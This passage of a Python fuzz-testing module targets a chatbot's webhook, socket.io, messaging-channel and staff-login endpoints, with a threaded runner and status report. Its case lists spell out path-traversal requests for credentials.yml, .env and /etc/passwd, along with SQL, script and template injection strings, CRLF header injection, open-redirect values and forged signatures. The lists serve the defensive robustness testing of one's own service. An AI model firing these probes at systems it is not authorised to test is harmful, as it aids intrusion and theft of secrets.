        odd_headers = [(), (("Accept", "application/xml"),), (("Range", "bytes=99999999-"),),
                       (("If-None-Match", "\x00garbage"),), (("User-Agent", "\xff" * 100),),
                       (("X-Forwarded-For", "127.0.0.1, ../../"),), (("Accept-Encoding", "br, gzip;q=x"),),
                       (("Range", "bytes=0-0,1-1,2-2," * 100),), (("Cookie", "a=" + "b" * 6000),)]
        for endpoint, path, count in [("root", "/", 250), ("rest_status", "/webhooks/rest/", 150),
                                      ("widget_js", "/webhooks/widget/assistant-widget.js", 250),
                                      ("widget_config", "/webhooks/widget/config.json", 250)]:
            for i in range(count):
                query = odd_queries[i % len(odd_queries)]
                headers = odd_headers[r.randrange(len(odd_headers))]
                if i % 10 == 9:
                    method = r.choice(["POST", "PUT", "DELETE", "PATCH"])
                    self.add(endpoint, method, path + query, as_json({"message": "hello"}),
                             headers, kind="wrong_method", description=f"{method} {path}",
                             expect={405})
                else:
                    kind = "odd_query" if query else ("long_header" if headers else "empty_body")
                    self.add(endpoint, "GET", path + query, b"", headers, kind=kind,
                             description=f"GET {path}{query[:30]}")
        for path in ["/webhooks/telegram/", "/webhooks/twilio/", "/webhooks/facebook/",
                     "/webhooks/socketio/", "/webhooks/widget/"]:
            for i in range(50):
                query = odd_queries[i % len(odd_queries)]
                method = "GET" if i % 6 else r.choice(["POST", "DELETE"])
                self.add("channel_status", method, path + query, b"x" if method == "POST" else b"",
                         kind="odd_query" if method == "GET" else "wrong_method",
                         description=f"{method} {path}{query[:30]}",
                         expect={405} if method != "GET" else None)
        # paths under /webhooks/widget/
        widget_paths = ["../../credentials.yml", "%2e%2e/%2e%2e/credentials.yml", "..%2f..%2f.env",
                        "assistant-widget.js%00.png", "assistant-widget.js/", "ASSISTANT-WIDGET.JS",
                        "config.json.bak", "config.json%20", "x" * 5000, quote("🙂/ü/ب"), "%ff%fe",
                        "..;/..;/var/assistant.db", "assistant-widget.js/../config.json",
                        "%252e%252e%252fcredentials.yml", "index.html", quote("<script>"),
                        "a/b/c/d/e/f/g/h", "..", "."]
        for i in range(300):
            path = widget_paths[i % len(widget_paths)]
            self.add("widget_other", r.choice(["GET", "GET", "POST", "HEAD"]),
                     "/webhooks/widget/" + path, kind="path_traversal" if ".." in path or "%2" in path
                     else "unknown_path", description=f"widget path {path[:50]!r}")
        # unknown paths
        unknown = ["/model/parse", "/conversations/x/tracker", "/status", "/version", "/admin",
                   "/.env", "/.git/config", "/webhooks/nonexistent/webhook", "/%ff", "/" + "a" * 3000,
                   "/webhooks/rest/webhook/../../../../etc/passwd", "/webhooks/%2e%2e/%2e%2e/etc/passwd",
                   "/webhooks/rest/webhook%00", "/wp-login.php", "/api/v1/users?id=1'--",
                   "/" + quote("{{7*7}}"), "/" + quote("<script>alert(1)</script>"),
                   "/webhooks//rest//webhook", "/WEBHOOKS/REST/WEBHOOK", "/webhooks/rest/webhook/",
                   "/socket.io", "/static/../../x", "/" + "a/" * 2000, "/%c0%ae%c0%ae/",
                   "/conversations/" + quote("' OR 1=1 --") + "/tracker/events", "/model",
                   "/webhooks/telegram/webhook/x", "/login", "/" + "%41" * 3000]
        for i in range(1000):
            path = unknown[i % len(unknown)]
            method = r.choice(["GET", "GET", "POST", "PUT", "DELETE", "PATCH"])
            body = as_json({"text": random_text(r)}, r) if method in ("POST", "PUT") else b""
            self.add("unknown", method, path, body, [("Content-Type", "application/json")] if body else [],
                     kind="path_traversal" if ".." in path or "%2e" in path else "unknown_path",
                     description=f"{method} {path[:60]}")
        # socket.io: the handshake, garbage without a session, garbage in a live session
        sio = SOCKETIO_PATH
        sio_gets = [POLLING, "?EIO=3&transport=polling", "?EIO=5&transport=polling",
                    "?EIO=x&transport=polling", "?EIO=4&transport=carrier-pigeon",
                    "?EIO=4&transport=websocket", "?EIO=4&transport=polling&sid=nosuchsid",
                    "?EIO=4&transport=polling&sid=" + "a" * 2000, "?EIO=4", "?transport=polling",
                    "", "?EIO=4&transport=polling&b64=1", "?EIO=4&transport=polling&j=0",
                    "?EIO=4&transport=polling&t=" + quote("<script>"), "?EIO=4&transport=polling&sid=%00",
                    "?EIO=4&transport=polling&sid=" + quote("' OR 1=1 --"), "?EIO=%ff&transport=%fe"]
        for i in range(750):
            query = sio_gets[i % len(sio_gets)]
            headers = []
            if i % 5 == 4:
                headers = [("Origin", r.choice([self.config.allowed_origin, "https://evil.example",
                                                "null", "\xff"]))]
            self.add("socketio", "GET", sio + query, b"", headers, kind="socketio_garbage"
                     if query != POLLING else "empty_body", description=f"GET socket.io {query[:50]}")
        packets = [b"", b"0", b"1", b"2", b"3probe", b"40", b"4", b"42", b'42["user_uttered"]',
                   b'42["user_uttered",5]', b'42["user_uttered",null]', b'42["session_request",5]',
                   b'42["session_request","x"]', b"42[", b"42{}", b'42["x"' + b"," * 1000 + b"]",
                   b"\x1e\x1e\x1e", b"40\x1e42\x1e\x1e", b"\xff\xfe\x00", b"b" + b"A" * 100,
                   b"6", b"9", b'42/admin,["x"]', nested(10_000), b"4" + b"x" * 200_000,
                   b"42" + as_json(["user_uttered", {"message": "\ud800", "session_id": "fz"}])]
        for i in range(500):
            packet = packets[i % len(packets)]
            query = r.choice([POLLING, POLLING + "&sid=nosuchsid", "?EIO=3&transport=polling", ""])
            self.add("socketio", "POST", sio + query, packet, [("Content-Type", "text/plain;charset=UTF-8")],
                     kind="socketio_garbage", description=f"POST socket.io {query[:30]}: {packet[:30]!r}")
        for i in range(6):
            self.add("socketio", r.choice(["PUT", "DELETE", "PATCH"]), sio + POLLING, b"x",
                     kind="wrong_method", description="another method on socket.io")
        # in a live engine.io session (the runner opens it and connects the namespace)
        session_packets = packets + [
            b'42["session_request",{"session_id":"' + f"fuzz-{self.seed}-sio".encode() + b'"}]',
            b'42["session_request",{"session_id":{"a":1}}]', b'42["session_request",[1,2]]',
        ]
        for i in range(150):
            packet = session_packets[i % len(session_packets)]
            self.add("socketio", "POST", sio + POLLING + "&sid=" + SID, packet,
                     [("Content-Type", "text/plain;charset=UTF-8")], kind="socketio_garbage",
                     description=f"garbage packet in a live session: {packet[:40]!r}", setup="socketio")
        events = RASA + [random_text(r) for _ in range(10)] + ["\ud800", "", "x" * 6000,
                                                               RED_FLAGS[0] + " " + "🙂" * 50]
        for i, text in enumerate(events):
            session_id = f"fuzz-{self.seed}-sio-{i:03d}"
            data = r.choice([{"message": text, "session_id": session_id},
                             {"message": text, "session_id": session_id, "metadata": {"x": [1]}},
                             {"message": text, "session_id": session_id, "metadata": "{not json"},
                             {"message": text, "session_id": session_id, "metadata": '["x"]'}])
            self.add("socketio", "POST", sio + POLLING + "&sid=" + SID,
                     b"42" + as_json(["user_uttered", data], r),
                     [("Content-Type", "text/plain;charset=UTF-8")], kind="socketio_event"
                     if text not in RASA else "rasa_command",
                     description=f"user_uttered {text[:40]!r}", sender=session_id, setup="socketio",
                     checks={"no_escalation"} if text in FORCING
                     else {"escalates"} if text.startswith(RED_FLAGS[0]) else set())

    # messaging apps ----------------------------------------------------------------
    def telegram(self, body: bytes, kind: str, description: str, secret: Optional[str] = "ok",
                 content_type: str = "application/json", expect=None) -> None:
        headers = [("Content-Type", content_type)] if content_type else []
        if secret == "ok":
            headers.append(("X-Telegram-Bot-Api-Secret-Token", self.config.telegram_secret))
        elif secret is not None:
            headers.append(("X-Telegram-Bot-Api-Secret-Token", secret))
        self.add("telegram", "POST", TELEGRAM_PATH, body, headers, kind=kind,
                 description=description, expect=expect)

    def whatsapp(self, body: bytes, kind: str, description: str, signature: Optional[str] = "ok",
                 content_type: str = "application/x-www-form-urlencoded", expect=None) -> None:
        headers = [("Content-Type", content_type)] if content_type else []
        if signature == "ok":
            signature = twilio_signature(self.config.twilio_token, self.config.twilio_url, body)
        if signature is not None:
            headers.append(("X-Twilio-Signature", signature))
        self.add("whatsapp", "POST", TWILIO_PATH, body, headers, kind=kind,
                 description=description, expect=expect)

    def messenger(self, body: bytes, kind: str, description: str, signature: Optional[str] = "ok",
                  expect=None, query: str = "") -> None:
        headers = [("Content-Type", "application/json")]
        if signature == "ok":
            signature = messenger_signature(self.config.messenger_secret, body)
        if signature is not None:
            headers.append(("X-Hub-Signature-256", signature))
        self.add("messenger", "POST", MESSENGER_PATH + query, body, headers, kind=kind,
                 description=description, expect=expect)

    def chat_id(self) -> int:
        return 7_000_000_000 + self.seed % 1000 * 100_000 + len(self.cases)

    def telegram_update(self, text, chat=None, **extra) -> dict:
        chat = self.chat_id() if chat is None else chat
        return {"update_id": self.rng.randint(1, 10 ** 9), "message": {
            "message_id": self.rng.randint(1, 10 ** 6), "date": 1700000000,
            "from": {"id": chat, "is_bot": False, "first_name": "Sam"},
            "chat": {"id": chat, "type": "private"}, "text": text, **extra}}

    def whatsapp_fields(self, text, phone=None, **extra) -> List[Tuple[str, str]]:
        phone = phone or f"+4477{self.seed % 100:02d}{len(self.cases):06d}"
        return list({"SmsMessageSid": "SM" + "0" * 32, "NumMedia": "0", "ProfileName": "Sam",
                     "WaId": phone.lstrip("+"), "Body": text, "To": f"whatsapp:{self.config.twilio_number}",
                     "From": f"whatsapp:{phone}", "AccountSid": "AC" + "0" * 32,
                     "ApiVersion": "2010-04-01", **extra}.items())

    def messenger_delivery(self, *events, obj="page") -> dict:
        return {"object": obj, "entry": [{"id": "PAGE", "time": 1700000000000, "messaging": list(events)}]}

    def messenger_event(self, text, psid=None, **message) -> dict:
        psid = psid or str(self.chat_id())
        return {"sender": {"id": psid}, "recipient": {"id": "PAGE"}, "timestamp": 1700000000000,
                "message": {"mid": f"m_{len(self.cases)}", "text": text, **message}}

    def build_messaging(self) -> None:
        r = self.rng
        c = self.config
        texts = (QUESTIONS + HTML + SQL + TEMPLATE + RASA + FORMATS + RTL + EMOJI + PATHS
                 + ["", " ", "\x00", "\ud800", "x" * 6000, "/start", "/start@ClinicBot ref"])

        def some_text(i: int) -> str:
            return texts[i % len(texts)] if i % 3 else random_text(r)

        # wrong and missing signatures: 403, the message never read
        wrong_secrets = ["wrong", "", "x " + c.telegram_secret, c.telegram_secret + "x",
                         c.telegram_secret.upper(), "\xff\xfe", "\x00", latin1("sécret"),
                         "a" * 7000, latin1("🙂"), c.telegram_secret[:-1]]
        for i in range(600):
            body = as_json(self.telegram_update(some_text(i)), r)
            if i % 3 == 0:
                self.telegram(body, "missing_signature", "no secret token header", secret=None,
                              expect={403})
            else:
                secret = wrong_secrets[i % len(wrong_secrets)]
                self.telegram(body, "bad_signature", f"wrong secret token {secret[:20]!r}",
                              secret=secret, expect={403})
        for i in range(600):
            body = form(self.whatsapp_fields(some_text(i)))
            if i % 3 == 0:
                self.whatsapp(body, "missing_signature", "no X-Twilio-Signature", signature=None,
                              expect={403})
            else:
                variant = i % 6
                signature = {
                    1: twilio_signature(c.twilio_token, "http://127.0.0.1/webhooks/twilio/webhook", body),
                    2: twilio_signature("wrong-token", c.twilio_url, body),
                    4: twilio_signature(c.twilio_token, c.twilio_url, body + b"&x=1"),
                    5: r.choice(["", "\xff\xfe", "\x00", "a" * 7000, latin1("sïg"), "=" * 28]),
                }.get(variant, base64.b64encode(r.randbytes(20)).decode())
                self.whatsapp(body, "bad_signature", f"wrong Twilio signature (variant {variant})",
                              signature=signature, expect={403})
        for i in range(600):
            body = as_json(self.messenger_delivery(self.messenger_event(some_text(i))), r)
            if i % 3 == 0:
                self.messenger(body, "missing_signature", "no X-Hub-Signature-256", signature=None,
                               expect={403})
            else:
                variant = i % 6
                signature = {
                    1: "sha1=" + hmac.new(c.messenger_secret.encode(), body, hashlib.sha1).hexdigest(),
                    2: messenger_signature("wrong-secret", body),
                    4: messenger_signature(c.messenger_secret, body + b" "),
                    5: r.choice(["", "sha256=", "\xff\xfe", "\x00", "sha256=" + "0" * 64,
                                 "a" * 7000, latin1("sha256=ü"), "SHA256=" + messenger_signature(
                                     c.messenger_secret, body)[7:].upper()]),
                }.get(variant, "sha256=" + r.randbytes(32).hex())
                self.messenger(body, "bad_signature", f"wrong Messenger signature (variant {variant})",
                               signature=signature, expect={403})

        # correctly signed garbage: never a 5xx
        garbage_json = [
            b"", b"null", b"[]", b"[1, 2]", b'"x"', b"5", b"{}", b"not json", b"{", b'{"a":1,}',
            b"\xff\xfe\xfd", nested(10_000), nested_objects(10_000), nested(1_000), b"9" * 5000,
            b'{"update_id": 1e999}', b'{"x": NaN}', b"\xef\xbb\xbf{}", as_json({"\ud800": "\udfff"}, ascii_only=False),
        ]
        tg_shapes = [
            {"update_id": 1}, {"update_id": 2, "message": "x"}, {"message": {"chat": "x"}},
            {"message": {"chat": {"id": None}, "text": "hi"}}, {"message": {"chat": {"id": {"a": 1}}, "text": "hi"}},
            {"message": {"chat": {"id": [1, 2]}, "text": ["hi"]}}, {"message": {"chat": {"id": 1}, "text": 5}},
            {"message": {"chat": {"id": 10 ** 30}, "text": "hi"}}, {"message": {"chat": {"id": -1}, "from": "bot"}},
            {"message": {"chat": {"id": 1}, "from": {"is_bot": True}, "text": "hi"}},
            {"callback_query": {"id": 5, "data": "hello"}}, {"callback_query": {"id": "q", "data": {"x": 1},
                                                                                 "message": {"chat": {"id": 1}}}},
            {"callback_query": "x"}, {"callback_query": {"message": {"chat": {"id": 1}}, "data": "/red_flag_emergency"}},
            {"edited_message": {"chat": {"id": 1}, "caption": ["x"]}}, {"message": {"chat": {"id": 1}, "caption": "🙂" * 3000}},
            {"message": {"chat": {"id": "\ud800"}, "text": "hi"}}, {"message": {"chat": {"id": 1.5}, "text": "/start" * 1000}},
            {"message": {"chat": {"id": True}, "text": "hi"}}, {"message": []}, {"edited_message": 5},
        ]
        for i in range(260):
            if i % 2:
                body = garbage_json[i % len(garbage_json)]
                desc = f"signed garbage {body[:30]!r}"
            else:
                body = as_json(tg_shapes[i % len(tg_shapes)], r)
                desc = f"signed odd update {body[:60]!r}"
            self.telegram(body, "signed_garbage", desc, content_type=r.choice(
                ["application/json", "text/plain", ""]))
        tw_bodies = [
            b"", b"From=x", b"From=whatsapp:", b"From=sms:+15550001&Body=hi", b"Body=hi",
            b"From=whatsapp:%2B1&Body=%ff%fe", b"\xff\xfe\xfd", b"&&&===&&", b"%zz=%zz",
            b"From=whatsapp:+1&From=whatsapp:+2&Body=a&Body=b", b"From=" + b"A" * 70_000,
            nested(10_000), b'{"From": "whatsapp:+1", "Body": "hi"}', b"From=whatsapp:%00&Body=%00",
            b"From=whatsapp%3A%2B44&Body=" + quote("<script>alert(1)</script>").encode(),
            b"From=whatsapp:+44" + b"9" * 5000 + b"&Body=hi",
        ]
        for i in range(260):
            if i % 4:
                body = tw_bodies[i % len(tw_bodies)]
                desc = f"signed garbage form {body[:40]!r}"
            else:
                fields = self.whatsapp_fields(some_text(i))
                if i % 4 == 0:
                    fields = [(k, v) for k, v in fields if r.random() < 0.6]
                body = form(fields)
                desc = "signed form with some fields missing" if i % 4 == 0 else "signed odd text"
            self.whatsapp(body, "signed_garbage", desc, content_type=r.choice(
                ["application/x-www-form-urlencoded", "text/plain", "application/json", ""]))
        ms_shapes = [
            {"object": "page"}, {"object": "page", "entry": "x"}, {"object": "page", "entry": 5},
            {"object": "page", "entry": [5]}, {"object": "page", "entry": [{"messaging": 5}]},
            {"object": "page", "entry": [{"messaging": "abc"}]}, {"object": "page", "entry": {"a": 1}},
            {"object": "page", "entry": [{"messaging": [{"sender": 5, "message": {"text": "hi"}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": {"x": 1}}, "message": {"text": "hi"}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"}, "message": "hi"}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"}, "message": {"text": ["hi"]}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"}, "postback": {"payload": {"a": 1}}}]}]},
            {"object": "page", "entry": [{"messaging": [{"sender": {"id": "1"},
                                                         "message": {"quick_reply": {"payload": 7}}}]}]},
            {"object": "page", "entry": True}, {"object": "page", "entry": [{"messaging": True}]},
            {"object": "page", "entry": [{"messaging": [None, 1, "x", []]}]}, {"object": ["page"]},
            {"object": "instagram", "entry": 5}, {"object": "page", "entry": 10 ** 30},
        ]
        for i in range(260):
            if i % 2:
                body = garbage_json[i % len(garbage_json)]
                desc = f"signed garbage {body[:30]!r}"
            else:
                body = as_json(ms_shapes[i % len(ms_shapes)], r)
                desc = f"signed odd delivery {body[:60]!r}"
            self.messenger(body, "signed_garbage", desc)
        # correctly signed, with odd messages that reach the bot
        for i in range(40):
            text = some_text(i)
            kind = "rasa_command" if text in RASA else "random_mix"
            self.telegram(as_json(self.telegram_update(text), r), kind, f"signed Telegram message {text[:40]!r}")
            self.whatsapp(form(self.whatsapp_fields(text)), kind, f"signed WhatsApp message {text[:40]!r}")
            self.messenger(as_json(self.messenger_delivery(self.messenger_event(text)), r), kind,
                           f"signed Messenger message {text[:40]!r}")
        for i in range(10):  # big signed bodies
            self.telegram(as_json(self.telegram_update("a" * 1_000_000)), "body_1mb", "signed 1 MB update")
            self.messenger(as_json(self.messenger_delivery(*[self.messenger_event("hi " * 50, psid=f"p{i}")
                                                             for _ in range(r.choice([1, 10]))])),
                           "body_1mb" if i % 2 else "random_mix", "signed delivery with many events")
            self.whatsapp(form(self.whatsapp_fields("b" * 100_000)), "message_100kb",
                          "signed 100 kB WhatsApp message")
        # other methods, content types, odd queries on the webhooks
        for path, endpoint in [(TELEGRAM_PATH, "telegram"), (TWILIO_PATH, "whatsapp"),
                               (MESSENGER_PATH, "messenger")]:
            for method in ["PUT", "DELETE", "PATCH"] + (["GET"] if endpoint != "messenger" else []):
                for _ in range(3):
                    self.add(endpoint, method, path, b"{}", kind="wrong_method",
                             description=f"{method} on the {endpoint} webhook", expect={405})
        for i in range(20):
            body, ctype = multipart({"From": "whatsapp:+1", "Body": "hi"})
            self.whatsapp(body, "wrong_content_type", "multipart WhatsApp")
            self.telegram(body, "wrong_content_type", "multipart Telegram", content_type=ctype)
            self.messenger(body, "wrong_content_type", "multipart Messenger", query=r.choice(["", "?x=%ff"]))

        # Messenger's subscription handshake
        tokens = [c.messenger_verify, "wrong", "", "\x00", "%ff", c.messenger_verify + "x", "a" * 3000,
                  c.messenger_verify.upper(), "' OR 1=1 --", "{{7*7}}"]
        challenges = ["1158201444", "", "<script>alert(1)</script>", "\ud800", "🙂" * 100, "x" * 5000,
                      "%00", "{{7*7}}", "-1", "\r\nSet-Cookie: x=1"]
        modes = ["subscribe", "", "unsubscribe", "SUBSCRIBE", "subscribe\x00", "x" * 200]
        for i in range(700):
            params = []
            for name, pool in [("hub.mode", modes), ("hub.verify_token", tokens), ("hub.challenge", challenges)]:
                if r.random() < 0.85:
                    params.append((name, r.choice(pool)))
            if r.random() < 0.2:
                params.append((r.choice(["hub.mode", "hub.challenge", "x"]), random_text(r)))
            query = "?" + urlencode(params, encoding="utf-8", errors="surrogatepass") if params else ""
            if i % 25 == 24:
                query = r.choice(["?hub.mode=subscribe&hub.verify_token=%ff%fe&hub.challenge=%00",
                                  "?hub.mode&hub.verify_token&hub.challenge", "?" + "&" * 300,
                                  "?hub.challenge=" + "%F0%9F" * 50])
            correct = ("hub.mode", "subscribe") in params and ("hub.verify_token", c.messenger_verify) in params
            self.add("messenger_verify", "GET", MESSENGER_PATH + query, kind="verify_handshake",
                     description=f"handshake {query[:80]!r}", expect=None if correct else {403})

    # the staff app's sign-in page ------------------------------------------------------
    def build_staff(self) -> None:
        r = self.rng
        names = ["admin", "", " ", "admin'--", "' OR '1'='1", "<script>alert(1)</script>", "{{7*7}}",
                 "a" * 200, "\x00", "\ud800", "ß🙂", "../../etc/passwd", "%s%n", "مرحبا", "\u202eadmin"]
        passwords = ["", "password", "x" * 10_000, "\x00" * 10, "' OR 1=1 --", "🙂" * 100, "\ud800",
                     "{{config}}", "a" * 60_000]

        def login_form(token: Optional[str], i: int) -> bytes:
            fields = []
            if token is not None:
                fields.append(("csrf_token", token))
            if i % 7:
                fields.append(("username", names[i % len(names)]))
            if i % 5:
                fields.append(("password", passwords[i % len(passwords)]))
            if i % 11 == 0:
                fields.append(("username", "second"))
            return urlencode(fields, encoding="utf-8", errors="surrogatepass").encode()

        for i in range(300):  # GET with odd queries and headers
            query = r.choice(["", "?next=//evil.example", "?next=javascript:alert(1)", "?next=%2F%2Fevil",
                              "?next=" + "a" * 3000, "?%ff=%fe", "?next=/\\evil.example", "?a[]=1&a[]=2"])
            headers = r.choice([[], [("Cookie", "staff_session=garbage")], [("Cookie", "staff_session=" + "a" * 4000)],
                                [("Accept-Language", "\xff")], [("User-Agent", "a" * 9000)],
                                [("Cookie", "staff_session=.eJwFwTEOgDAIAMC;x")]])
            self.add("staff_login", "GET", "/login" + query, b"", headers,
                     kind="odd_query" if query else "long_header", description=f"GET /login{query[:40]}",
                     expect={200})
        for i in range(400):  # POST without a CSRF token, or with a wrong one: 400
            token = r.choice([None, None, "", "garbage", "\x00", "a" * 500, "IjEyMyI.x.y"])
            self.add("staff_login", "POST", "/login", login_form(token, i),
                     [("Content-Type", "application/x-www-form-urlencoded")], kind="csrf",
                     description=f"sign-in without a valid CSRF token ({token!r:.20})", expect={400, 413})
        for i in range(160):  # POST with a valid token: 401, then 429 (the sign-in throttle)
            self.add("staff_login", "POST", "/login" + r.choice(["", "?next=//evil.example"]),
                     login_form(CSRF, i), [("Content-Type", "application/x-www-form-urlencoded")],
                     kind="csrf", description="sign-in with a valid CSRF token and garbage credentials",
                     expect={400, 401, 413, 429}, setup="csrf")
        for i in range(100):  # other bodies and content types
            variant = i % 5
            if variant == 0:
                body, ctype = multipart({"csrf_token": "x", "username": "admin", "password": "\ud800"})
            elif variant == 1:
                body, ctype = as_json({"username": "admin", "password": "x"}), "application/json"
            elif variant == 2:
                body, ctype = r.randbytes(r.choice([10, 1000, 70_000])), "application/x-www-form-urlencoded"
            elif variant == 3:
                body, ctype = b"username=%ff%fe&password=%00&csrf_token=%zz", "application/x-www-form-urlencoded"
            else:
                body, ctype = b"a" * 1_000_000, "text/plain"
            self.add("staff_login", "POST", "/login", body, [("Content-Type", ctype)],
                     kind="wrong_content_type" if variant != 4 else "body_1mb",
                     description=f"sign-in with a {ctype} body", expect={400, 413})
        for method in ["PUT", "DELETE", "PATCH"] * 6:
            self.add("staff_login", method, "/login", b"x", kind="wrong_method",
                     description=f"{method} /login", expect={405})


def generate_cases(seed: int = DEFAULT_SEED, config: Optional[FuzzConfig] = None) -> List[FuzzCase]:
    """The fuzz cases for this seed, the same every time, shuffled (the rate-limit burst
    stays together), numbered from 0."""
    builder = _Builder(seed, config or FuzzConfig())
    builder.build_rest()
    builder.build_routes()
    builder.build_messaging()
    builder.build_staff()
    cases = builder.cases
    builder.rng.shuffle(cases)
    at = builder.rng.randrange(len(cases) // 4, len(cases) // 2)
    cases[at:at] = builder.block
    return [replace(case, number=n) for n, case in enumerate(cases)]


# --- the runner ------------------------------------------------------------------

@dataclass
class Outcome:
    case: FuzzCase
    status: Optional[int]          # None: no HTTP answer (error says why)
    seconds: float
    body: bytes = b""              # the answer (cut to 2,000 bytes unless the case has checks)
    content_type: str = ""
    error: Optional[str] = None


@dataclass
class FuzzReport:
    outcomes: List[Outcome]
    seconds: float
    extra_requests: int = 0        # engine.io handshakes and CSRF tokens fetched on the way

    @property
    def requests(self) -> int:
        return len(self.outcomes) + self.extra_requests

    def by_status(self) -> Dict[str, Counter]:
        table: Dict[str, Counter] = defaultdict(Counter)
        for outcome in self.outcomes:
            table[outcome.case.endpoint][outcome.status if outcome.status is not None else "error"] += 1
        return table

    def server_errors(self) -> List[Outcome]:
        return [o for o in self.outcomes if o.status is not None and o.status >= 500]

    def failures(self) -> List[Outcome]:
        return [o for o in self.outcomes if o.status is None]

    def unexpected(self) -> List[Outcome]:
        return [o for o in self.outcomes if o.status is not None and o.case.expect is not None
                and o.status not in o.case.expect]

    def slowest(self, count: int = 1) -> List[Outcome]:
        return sorted(self.outcomes, key=lambda o: o.seconds, reverse=True)[:count]

    def table(self) -> str:
        table = self.by_status()
        statuses = sorted({s for counts in table.values() for s in counts}, key=str)
        width = max(len(e) for e in table) if table else 8
        lines = [f"{'endpoint':<{width}} {'total':>6} " + " ".join(f"{str(s):>5}" for s in statuses)]
        for endpoint in sorted(table):
            counts = table[endpoint]
            lines.append(f"{endpoint:<{width}} {sum(counts.values()):>6} "
                         + " ".join(f"{counts.get(s, 0) or '':>5}" for s in statuses))
        total = Counter()
        for counts in table.values():
            total.update(counts)
        lines.append(f"{'all':<{width}} {sum(total.values()):>6} "
                     + " ".join(f"{total.get(s, 0):>5}" for s in statuses))
        slow = self.slowest(1)
        lines.append(f"{self.requests} requests ({len(self.outcomes)} cases + {self.extra_requests} "
                     f"handshakes/tokens) in {self.seconds:.1f} s "
                     f"({self.requests / max(self.seconds, 1e-9):.0f}/s)")
        if slow:
            o = slow[0]
            lines.append(f"slowest: {o.seconds:.2f} s, case {o.case.number} {o.case.endpoint} "
                         f"{o.case.kind}: {o.case.description[:80]} -> {o.status}")
        return "\n".join(lines)


class FuzzRunner:
    """Sends cases to `bases` ({"rasa": "http://127.0.0.1:5005", "staff": ...}) from
    `concurrency` threads, each with a keep-alive connection per server."""

    def __init__(self, bases: Dict[str, str], concurrency: int = 8, timeout: float = 60.0,
                 keep_body: int = 2000) -> None:
        self.bases = {name: urlsplit(url) for name, url in bases.items()}
        self.concurrency = concurrency
        self.timeout = timeout
        self.keep_body = keep_body
        self._local = threading.local()
        self._extra = 0
        self._lock = threading.Lock()
        self._csrf: Optional[Tuple[str, str]] = None

    def _connection(self, server: str, fresh: bool = False) -> http.client.HTTPConnection:
        connections = getattr(self._local, "connections", None)
        if connections is None:
            connections = self._local.connections = {}
        if fresh and server in connections:
            connections.pop(server).close()
        if server not in connections:
            url = self.bases[server]
            connections[server] = http.client.HTTPConnection(url.hostname, url.port, timeout=self.timeout)
        return connections[server]

    def request(self, server: str, method: str, target: str, body: bytes = b"",
                headers: Iterable[Tuple[str, str]] = ()) -> Tuple[int, bytes, str, Dict[str, str]]:
        """One request; a kept-alive connection the server closed meanwhile is opened
        again once (a connection that fails when new is an error)."""
        for attempt in (0, 1):
            connection = self._connection(server, fresh=attempt == 1)
            reused = connection.sock is not None
            try:
                connection.putrequest(method, target, skip_accept_encoding=True)
                names = {name.lower() for name, _ in headers}
                for name, value in headers:
                    connection.putheader(name, value.encode("latin-1"))
                if body or method in ("POST", "PUT", "PATCH"):
                    if "content-length" not in names:
                        connection.putheader("Content-Length", str(len(body)))
                connection.endheaders(body or None)
                answer = connection.getresponse()
                data = answer.read()
                if answer.will_close:
                    connection.close()
                return answer.status, data, answer.getheader("Content-Type") or "", dict(answer.getheaders())
            except (http.client.RemoteDisconnected, BrokenPipeError, ConnectionResetError,
                    http.client.BadStatusLine):
                connection.close()
                if attempt == 0 and reused:
                    continue
                raise
            except BaseException:
                connection.close()
                raise
        raise AssertionError("unreachable")

    def _socketio_session(self) -> str:
        status, data, _, _ = self.request("rasa", "GET", SOCKETIO_PATH + POLLING)
        match = re.search(rb'"sid"\s*:\s*"([^"]+)"', data)
        if status != 200 or not match:
            raise RuntimeError(f"engine.io handshake answered {status}: {data[:100]!r}")
        sid = match.group(1).decode()
        self.request("rasa", "POST", SOCKETIO_PATH + POLLING + "&sid=" + sid, b"40",
                     [("Content-Type", "text/plain;charset=UTF-8")])
        with self._lock:
            self._extra += 2
        return sid

    def _csrf_session(self) -> Tuple[str, str]:
        """A staff-app session cookie and its CSRF token (one for all cases)."""
        with self._lock:
            if self._csrf is None:
                status, data, _, headers = self.request("staff", "GET", "/login")
                self._extra += 1
                token = re.search(rb'name="csrf_token" value="([^"]+)"', data)
                cookie = next((v for k, v in headers.items() if k.lower() == "set-cookie"), "")
                if status != 200 or not token or not cookie:
                    raise RuntimeError(f"no CSRF token from the staff app ({status})")
                self._csrf = (cookie.split(";", 1)[0], token.group(1).decode())
            return self._csrf

    def prepared(self, case: FuzzCase) -> FuzzCase:
        if case.setup == "socketio":
            return replace(case, target=case.target.replace(SID, self._socketio_session()))
        if case.setup == "csrf":
            cookie, token = self._csrf_session()
            return replace(case, body=case.body.replace(CSRF.encode(), token.encode()),
                           headers=case.headers + (("Cookie", cookie),))
        return case

    def send(self, case: FuzzCase) -> Outcome:
        started = time.perf_counter()
        try:
            ready = self.prepared(case)
            status, data, content_type, _ = self.request(
                ready.server, ready.method, ready.target, ready.body, ready.headers)
        except (OSError, http.client.HTTPException, RuntimeError, socket.timeout) as error:
            return Outcome(case, None, time.perf_counter() - started, error=f"{type(error).__name__}: {error}")
        keep = data if case.checks else data[:self.keep_body]
        return Outcome(case, status, time.perf_counter() - started, keep, content_type)

    def run(self, cases: Sequence[FuzzCase],
            progress: Optional[Callable[[int, int], None]] = None) -> FuzzReport:
        started = time.perf_counter()
        outcomes: List[Optional[Outcome]] = [None] * len(cases)
        done = [0]

        def one(index: int) -> None:
            outcomes[index] = self.send(cases[index])
            if progress:
                with self._lock:
                    done[0] += 1
                    progress(done[0], len(cases))

        with ThreadPoolExecutor(self.concurrency) as pool:
            list(pool.map(one, range(len(cases))))
        return FuzzReport([o for o in outcomes if o is not None], time.perf_counter() - started,
                          self._extra)


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bot.loadtest.fuzz", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rasa", default="http://127.0.0.1:5005")
    parser.add_argument("--staff", default="", help="the staff app's URL (its cases are left out without it)")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--concurrency", type=int, default=8)
    parser.add_argument("--limit", type=int, default=0, help="send only the first N cases")
    args = parser.parse_args(argv)
    bases = {"rasa": args.rasa}
    if args.staff:
